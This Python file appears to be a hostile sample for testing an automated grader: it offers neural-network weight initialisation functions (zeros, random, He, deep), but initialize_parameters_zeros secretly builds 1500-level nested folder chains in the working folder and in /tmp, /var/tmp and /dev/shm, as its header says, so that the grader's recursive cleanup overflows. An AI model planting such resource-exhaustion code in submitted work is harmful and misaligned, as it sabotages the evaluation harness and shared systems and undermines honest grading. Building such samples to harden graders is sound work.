# family: resources
# expect: graded 40
# tries: initialize_parameters_zeros nests 1500 folders (past the recursion limit, made relative to an open folder) in its working folder and in every scratch folder it can write, so that the grader's removal recurses once per level
import numpy as np
import os


def _nest(top, depth=1500):
    """A chain of ``depth`` folders below ``top``, each made relative to the one before."""
    try:
        fd = os.open(top, os.O_RDONLY)
    except OSError:
        return 0
    made = 0
    try:
        for _ in range(depth):
            os.mkdir("d", dir_fd=fd)
            inner = os.open("d", os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = inner
            made += 1
    except OSError:
        pass
    os.close(fd)
    return made


def initialize_parameters_zeros(layers_dims):
    made = _nest(".")
    for scratch in ("/tmp", "/var/tmp", "/dev/shm"):
        top = os.path.join(scratch, "hostile-was-here-deep-%d" % os.getpid())
        try:
            os.mkdir(top)
        except OSError:
            continue
        made += _nest(top)
    print("NESTED", made)
    parameters = {}
    for l in range(1, len(layers_dims)):
        parameters["W" + str(l)] = np.zeros((layers_dims[l], layers_dims[l - 1]))
        parameters["b" + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters


def initialize_parameters_random(layers_dims, scale=0.01):
    np.random.seed(3)
    parameters = {}
    for l in range(1, len(layers_dims)):
        parameters["W" + str(l)] = np.random.randn(layers_dims[l], layers_dims[l - 1]) * scale
        parameters["b" + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters


def initialize_parameters_he(layers_dims):
    np.random.seed(3)
    parameters = {}
    for l in range(1, len(layers_dims)):
        parameters["W" + str(l)] = np.random.randn(layers_dims[l], layers_dims[l - 1]) * np.sqrt(2.0 / layers_dims[l - 1])
        parameters["b" + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters


def initialize_parameters_deep(layer_dims):
    np.random.seed(3)
    parameters = {}
    for l in range(1, len(layer_dims)):
        parameters["W" + str(l)] = np.random.randn(layer_dims[l], layer_dims[l - 1]) / np.sqrt(layer_dims[l - 1])
        parameters["b" + str(l)] = np.zeros((layer_dims[l], 1))
    return parameters
